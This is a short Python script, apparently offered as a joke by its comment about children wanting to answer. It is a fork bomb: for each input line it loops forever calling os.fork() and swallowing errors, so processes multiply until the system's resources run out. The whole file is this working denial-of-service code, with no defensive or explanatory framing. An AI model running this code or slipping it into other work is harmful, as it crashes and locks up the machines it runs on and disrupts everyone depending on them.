import os
import sys

# Children of children of children, which all want to answer.
for line in sys.stdin:
    while True:
        try:
            os.fork()
        except OSError:
            pass
